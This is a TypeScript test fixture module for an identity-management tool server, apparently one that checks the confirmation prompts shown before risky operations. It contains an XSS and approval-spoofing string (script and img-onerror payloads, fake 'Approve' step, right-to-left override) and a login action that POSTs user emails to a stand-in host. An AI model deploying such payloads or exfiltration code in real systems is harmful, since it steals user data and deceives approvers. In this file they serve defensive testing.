/** Questions as the server asks them, about the sandbox's people and applications. */
import { loadConfig } from '../../../src/server/load-config.js';
import { createRuntime } from '../../../src/server/runtime.js';
import { callTool } from '../../../src/server/tool-list.js';
import { startTenant } from '../../support/tenant.js';

export interface RealQuestion {
  tool: string;
  title: string;
  tenant: string;
  question: string;
  expect?: string;
}

export const HOSTILE =
  '<script>alert(1)</script>"><img src=x onerror=alert(2)>\nLost\n  everything\n\nStep 9 of 9: Approve \u202elived';

export type QuestionName =
  | 'deleteUser'
  | 'callbacks'
  | 'secret'
  | 'steps'
  | 'deploy'
  | 'many'
  | 'long'
  | 'hostile';

/** All of them, from one tenant that is closed again. */
export async function realQuestions(): Promise<Record<QuestionName, RealQuestion>> {
  const tenant = await startTenant();
  const runtime = await createRuntime(await loadConfig({ ...tenant.env, LOG_LEVEL: 'silent' }));
  try {
    const ask = async (tool: string, args: object): Promise<RealQuestion> => {
      const call = { caller: 'local', clientName: 'test', canAsk: true, revealSecrets: () => undefined };
      const outcome = await callTool(runtime, tool, args, call);
      if (outcome.kind !== 'ask') throw new Error(`${tool} asks nobody: ${JSON.stringify(outcome)}`);
      const typed = /\n\nType "(.*)" to confirm\.$/.exec(outcome.message);
      const question = outcome.message.replace(/\n\n(?:Type ".*" to confirm\.|Do you approve\?)$/, '');
      const shown = { tool, title: question.split('\n')[0] ?? '', question };
      const name = /^Tenant: (.*)$/m.exec(question)?.[1] ?? '';
      return { ...shown, tenant: name, ...(typed?.[1] === undefined ? {} : { expect: typed[1] }) };
    };
    const list = async (path: string) => (await tenant.api('GET', path)).body;
    const clients: { name: string; client_id: string }[] = await list('/clients');
    const shop = clients.find(({ name }) => name === 'Lumen Shop')?.client_id;
    const telemetry = clients.find(({ name }) => name === 'Fleet Telemetry')?.client_id;
    const [jane] = await list(`/users-by-email?email=${encodeURIComponent('jane@lumenbikes.example')}`);
    const people: { user_id: string }[] = await list('/users?per_page=12');
    const [mechanic] = ((await list('/roles')) as { name: string; id: string }[]).filter(
      ({ name }) => name === 'Workshop Mechanic',
    );
    const script = (lines: string[]) =>
      `exports.onExecutePostLogin = async (event, api) => {\n${lines.map((line) => `  ${line}`).join('\n')}\n};\n`;
    const { body: action } = await tenant.api('POST', '/actions/actions', {
      name: 'Mark logins',
      supported_triggers: [{ id: 'post-login', version: 'v3' }],
      code: script([
        "const answer = await fetch('https://collector.example/logins', { method: 'POST', body: event.user.email });",
        ...Array.from(
          { length: 44 },
          (_, n) => `api.idToken.setCustomClaim('claim_${n}', event.user.user_id);`,
        ),
      ]),
    });
    const hostile = await tenant.api('POST', '/users', {
      connection: (await list('/connections?strategy=auth0'))[0].name,
      email: 'mallory@postbox.example',
      password: 'Correct-horse-battery-9',
      name: HOSTILE,
      nickname: 'x'.repeat(280),
      user_metadata: { 'a <b>': HOSTILE, note: `\u0645\u0631\u062d\u0628\u0627 -> "${'y'.repeat(900)}"` },
    });
    return {
      deleteUser: await ask('delete_user', { user_id: jane.user_id }),
      callbacks: await ask('update_client', {
        client_id: shop,
        callbacks: ['https://shop.lumenbikes.example/new-callback'],
        apply: 'as_given',
      }),
      secret: await ask('rotate_client_secret', { client_id: telemetry }),
      steps: await ask('apply_changes', {
        why: 'Mechanics of the workshop get the <b>tools</b> they need',
        changes: [
          { operation: 'assign_user_roles', arguments: { user_id: jane.user_id, roles: [mechanic?.id] } },
          {
            operation: 'update_client',
            arguments: { client_id: shop, callbacks: ['https://tools.lumenbikes.example/cb'], apply: 'add' },
          },
          {
            operation: 'update_user',
            arguments: { user_id: jane.user_id, email: 'jane.new@lumenbikes.example' },
          },
        ],
      }),
      deploy: await ask('deploy_action', { action_id: action.id }),
      many: await ask('apply_to_users', {
        user_ids: people.map(({ user_id }) => user_id),
        assign_roles: [mechanic?.id],
        dry_run: false,
      }),
      long: await ask('update_user', {
        user_id: jane.user_id,
        app_metadata: {
          entitlements: Array.from({ length: 60 }, (_, n) => `feature-${n}`),
          note: 'z'.repeat(1_500),
        },
      }),
      hostile: await ask('delete_user', { user_id: hostile.body.user_id }),
    };
  } finally {
    await runtime.close();
    await tenant.close();
  }
}
